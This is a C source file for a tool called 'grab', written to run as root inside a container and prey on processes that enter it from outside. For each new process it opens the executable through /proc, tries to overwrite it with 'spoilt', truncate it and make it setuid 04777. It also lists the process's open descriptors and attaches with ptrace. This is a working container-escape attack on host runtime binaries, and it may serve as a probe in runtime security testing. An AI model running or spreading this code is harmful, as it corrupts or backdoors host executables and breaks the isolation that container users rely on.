/* As root inside a container: lies in wait for processes that come in, and takes from each what it can get.

   usage: grab NAME

   For each new process of /proc that is called something else than NAME: keeps its exe open, and tries to
   write to that, to change its mode and its length, to look at its root, working directory and descriptors,
   and to trace it. Says a line for what it has got, "PID WHAT"; the pids that it has seen at the end, and
   links of all the exe that it holds. Ends at SIGTERM, or when standard input ends. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MOST = 65536 };
static char seen[MOST];
static volatile int ended;

static void end(int number) {
    (void)number;
    ended = 1;
}

static void spoil(int pid, int exe) {
    char path[64], target[512];
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    long length = readlink(path, target, sizeof target - 1);
    if (length < 0) return;
    target[length] = 0;
    /* What is not the container's own shall be a copy that nobody needs. */
    if (strncmp(target, "/bin/", 5) == 0) return;
    printf("%d exe %s\n", pid, target);
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file >= 0) {
        if (write(file, "spoilt", 6) == 6) printf("%d written %s\n", pid, target);
        if (ftruncate(file, 0) == 0) printf("%d cut %s\n", pid, target);
        close(file);
    }
    if (truncate(path, 0) == 0) printf("%d cut %s\n", pid, target);
    chmod(path, 04777);
    utimensat(AT_FDCWD, path, NULL, 0);
}

static void look(int pid) {
    char path[64], target[512];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int exe = open(path, O_PATH | O_CLOEXEC);
    if (exe < 0) return;
    spoil(pid, exe);
    for (int fd = 3; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        long length = readlink(path, target, sizeof target - 1);
        if (length <= 0) continue;
        target[length] = 0;
        /* sockets and files in memory are the way in itself */
        if (target[0] == '/' && strncmp(target, "/memfd:", 7)) printf("%d descriptor %s\n", pid, target);
    }
    close(exe);
}

int main(int argc, char **argv) {
    if (argc < 2) return 99;
    signal(SIGTERM, end);
    setvbuf(stdout, NULL, _IOLBF, 0);
    DIR *proc = opendir("/proc");
    if (!proc) return 98;
    for (struct dirent *entry; (entry = readdir(proc));)
        if (isdigit(entry->d_name[0])) seen[atoi(entry->d_name) % MOST] = 1;
    printf("ready\n");
    int count = 0;
    while (!ended) {
        rewinddir(proc);
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = isdigit(entry->d_name[0]) ? atoi(entry->d_name) : 0;
            if (!pid || pid >= MOST || seen[pid]) continue;
            seen[pid] = 1;
            count++;
            for (int round = 0; round < 200; round++) look(pid);
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                waitpid(pid, NULL, __WALL);
                look(pid);
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
        }
    }
    printf("saw %d\n", count);
    return 0;
}
